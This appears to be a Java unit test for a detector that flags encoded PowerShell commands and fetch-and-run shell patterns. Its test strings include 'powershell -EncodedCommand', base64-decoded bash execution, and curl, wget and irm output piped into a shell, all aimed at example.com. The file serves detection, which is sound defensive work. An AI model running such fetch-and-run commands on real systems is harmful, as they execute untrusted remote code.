package io.cavra.readiness.core.publicsafe;

import static io.cavra.readiness.core.publicsafe.Judgement.assertFound;
import static io.cavra.readiness.core.publicsafe.Judgement.assertNotFound;

import org.junit.jupiter.api.Test;

/** The forms that the same commands take in other shells, behind prompts and in quotes. */
class ScriptFormsTest {

  private static final String URL = "https://example.com/x";

  @Test
  void scriptFindsEncodedCommandsHoweverTheCodeIsHandedOver() {
    String code = Plant.base64("w\0h\0o\0a\0m\0i\0");
    assertFound(
        "script",
        "powershell -EncodedCommand \"" + code + "\"",
        "powershell -e '" + code + "'",
        "powershell -EncodedCommand:" + code,
        "bash -c \"$(base" + "64 -d x)\"");
    assertNotFound(
        "script",
        "the -EncodedCommand \"option\" is refused",
        "powershell -EncodedCommand: refused",
        "powershell -e \"remoting\" is off",
        "\"bash -c $(base64 -d ...)\" is refused",
        "bash and base64 -d (both) are present");
  }

  @Test
  void scriptFindsFetchAndRunInItsRarerForms() {
    assertFound(
        "script",
        "curl " + URL + " |& bash",
        "curl " + URL + " | . /dev/stdin",
        "& ([scriptblock]::Create((irm " + URL + ")))",
        "aria2c " + URL + " && sh x.sh",
        "http " + URL + " | sh",
        "$(curl " + URL + ")",
        "cd /tmp; $(wget -qO- " + URL + ")");
    assertNotFound(
        "script",
        "http | sh",
        "http https ftp | protocol",
        "aria2c 1.37; curl 8.5",
        "$(curl ...) is refused by the linter",
        "VERSION=$(curl " + URL + ")",
        "the scriptblock (irm 2.0) check is done");
  }
}
